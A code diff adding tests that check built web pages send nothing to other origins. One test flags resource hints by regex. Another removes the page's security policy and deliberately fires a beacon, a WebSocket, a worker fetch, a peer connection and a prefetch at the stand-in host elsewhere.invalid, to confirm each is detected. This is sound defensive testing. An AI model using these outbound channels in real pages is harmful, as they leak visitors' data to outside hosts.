@@ -55,6 +55,13 @@ describe.each(['dist', 'dist-base'])('the pages in %s', (folder) => {
     expect(problems).toEqual([]);
   });
 
+  test('ask no other address to get ready, which no request would show', () => {
+    const hints = pages.filter(([, html]) =>
+      /rel="?(dns-prefetch|preconnect|prerender)|speculationrules/.test(html),
+    );
+    expect(hints.map(([file]) => file)).toEqual([]);
+  });
+
   test('say their encoding where browsers look for it', () => {
     expect(pages.filter(([, html]) => !saysEncoding(html)).map(([file]) => file)).toEqual([]);
   });
@@ -189,6 +196,35 @@ describe('what is planted is noticed', () => {
     await visit.page.unroute(home.href);
     await withPlanted(visit, (html) => put(html.replace(POLICY, '<meta name="x" content=""')));
     expect(visit.problems).toContain(`request to another origin: ${picture}`);
+    visit.problems.length = 0;
+  });
+
+  test('every other way out: a beacon, a socket, a worker, a connection between browsers', async ({
+    open,
+  }) => {
+    const visit = await open();
+    // Without its policy, which would stop most of it.
+    await withPlanted(visit, (html) => html.replace(POLICY, '<meta name="x" content=""'));
+    await visit.page.evaluate(() => {
+      const address = 'http://elsewhere.invalid';
+      navigator.sendBeacon(`${address}/beacon`, 'x');
+      new WebSocket('ws://elsewhere.invalid/socket');
+      new Worker(URL.createObjectURL(new Blob([`fetch('${address}/worker').catch(() => 0)`])));
+      new RTCPeerConnection();
+      document.head.insertAdjacentHTML('beforeend', `<link rel="prefetch" href="${address}/prefetch">`);
+    });
+    const elsewhere = ['beacon', 'worker', 'prefetch'].map(
+      (what) => `request to another origin: http://elsewhere.invalid/${what}`,
+    );
+    await expect
+      .poll(() => visit.problems)
+      .toEqual(
+        expect.arrayContaining([
+          ...elsewhere,
+          'socket to ws://elsewhere.invalid/socket',
+          'security policy: RTCPeerConnection was opened on /',
+        ]),
+      );
     visit.problems.length = 0;
   });
 
